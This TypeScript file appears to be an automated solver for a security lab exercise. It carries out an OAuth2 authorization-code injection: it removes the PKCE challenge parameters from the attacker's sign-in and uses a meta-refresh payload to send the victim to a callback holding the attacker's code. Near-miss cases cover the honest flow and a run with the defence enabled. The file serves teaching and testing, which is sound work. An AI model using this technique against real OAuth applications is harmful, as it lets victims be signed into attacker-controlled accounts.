import type { Participant } from '../../solver.ts';
import { labSolver } from '../attack-and-defend.ts';
import { signInToApp } from '../lab-app.ts';

const challenge = ['code_challenge', 'code_challenge_method'];

/** The page of Mallory sends Alice to a callback with a code of his, whose sign-in was without these parameters. */
async function lure(by: Participant, without = challenge): Promise<void> {
  const { pathname } = new URL(by.issuer);
  const { url } = await by.submitUntil(await by.open('/demo-app'), 'app-sign-in', `${pathname}/oauth2/authorize`);
  for (const name of without) url.searchParams.delete(name);
  const end = await by.submitUntil(await by.open(url.href), 'login-user-mallory', `${pathname}/demo-app/callback`);
  await by.attack('victim', `<meta http-equiv="refresh" content="0; url=${end.url.href}">`);
}

/** Two people sign in with PKCE, in one browser. */
async function honest(by: Participant): Promise<void> {
  await signInToApp(by, 'alice');
  await by.open('/oauth2/logout');
  await signInToApp(by, 'mallory').catch(() => undefined);
}

export const solver = labSolver({
  first: 'alice',
  honest,
  goal: {
    solve: by => lure(by),
    nearMisses: {
      'the challenge stays': { does: by => lure(by, []) },
      'both sign in, in one browser': { does: honest },
      'the defence is on': {
        also: ['again'],
        async does(by) {
          await by.defend(true);
          await lure(by);
        },
      },
    },
  },
});
